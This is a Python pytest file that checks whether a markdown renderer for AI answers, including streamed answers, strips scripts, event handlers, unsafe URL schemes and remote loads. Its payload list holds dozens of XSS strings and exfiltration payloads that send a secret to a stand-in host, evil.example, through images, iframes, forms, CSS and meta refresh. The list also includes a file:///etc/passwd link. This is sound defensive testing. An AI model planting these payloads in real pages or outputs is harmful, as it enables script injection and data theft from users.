"""Answers that try to run something or to carry data out of the house (OWASP LLM02, LLM05)."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from apps.common.markdown import BlockStream, render

TAGS = {
    *(
        "p",
        "h3",
        "h4",
        "h5",
        "h6",
        "strong",
        "em",
        "s",
        "code",
        "pre",
        "ul",
        "ol",
        "li",
        "blockquote",
        "hr",
        "br",
    ),
    *("table", "thead", "tbody", "tr", "th", "td", "a", "span"),
}
ATTRIBUTES = {"href", "target", "rel", "class", "align", "start", "tabindex"}
SECRET = "c2VjcmV0"
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    f"<img src='https://evil.example/?q={SECRET}'>",
    f"![x](https://evil.example/?q={SECRET})",
    f"![x][1]\n\n[1]: https://evil.example/?q={SECRET}",
    f"[![x](https://evil.example/?q={SECRET})](https://ok.example)",
    f"![x](data:image/png;base64,{SECRET})",
    f"![x](//evil.example/{SECRET})",
    f'![x](https://evil.example/ "{SECRET}")',
    f"<picture><source srcset='https://evil.example/{SECRET}'></picture>",
    f"<svg><image href='https://evil.example/{SECRET}'/></svg>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    f"<style>body{{background:url(https://evil.example/{SECRET})}}</style>",
    f"<link rel=stylesheet href=https://evil.example/{SECRET}>",
    f"<p style='background:url(https://evil.example/{SECRET})'>x</p>",
    f"<iframe src=https://evil.example/{SECRET}></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f"<object data=https://evil.example/{SECRET}></object>",
    f"<embed src=https://evil.example/{SECRET}>",
    f"<video src=https://evil.example/{SECRET} autoplay></video>",
    f"<audio src=https://evil.example/{SECRET} autoplay></audio>",
    f"<form action=https://evil.example/{SECRET}><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    f"<base href=https://evil.example/{SECRET}>",
    f"<meta http-equiv=refresh content='0;url=https://evil.example/{SECRET}'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://ok.example/1)",
    "<javascript:alert(1)>",
    "[x](//evil.example)",
    "[x](/account/logout/)",
    "[x](#main)",
    '[x](https://ok.example "onmouseover=alert(1)")',
    '[x](https://ok.example/"onmouseover="alert(1))',
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "- <a href=javascript:alert(1)>x</a>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "[[PERSON_1]]<script>[[PERSON_1]]</script>",
    "[[<img src=x onerror=alert(1)>_1]]",
    "$$\\href{javascript:alert(1)}{x}$$",
    '```mermaid\nclick A href "javascript:alert(1)"\n```',
    "<div hx-get=/account/logout/ hx-trigger=load>x</div>",
    "<chat-thread></chat-thread>",
    "\0<script\0>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<a href=https://ok.example ping=https://evil.example>x</a>",
]  # fmt: skip


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def assert_harmless(html: str) -> None:
    reader = _Reader()
    reader.feed(html)
    for tag, attributes in reader.tags:
        assert tag in TAGS
        assert attributes.keys() <= ATTRIBUTES
        if tag == "a":
            assert urlsplit(attributes["href"] or "").scheme in {"http", "https", "mailto"}
            assert attributes["rel"] == "noopener noreferrer nofollow"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_runs_and_nothing_loads(payload: str) -> None:
    assert_harmless(render(payload))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nor_while_the_answer_is_still_coming(payload: str) -> None:
    stream = BlockStream()
    for letter in payload:
        for html in stream.feed(letter).values():
            assert_harmless(html)


def test_there_are_enough_payloads() -> None:
    assert len(PAYLOADS) >= 40
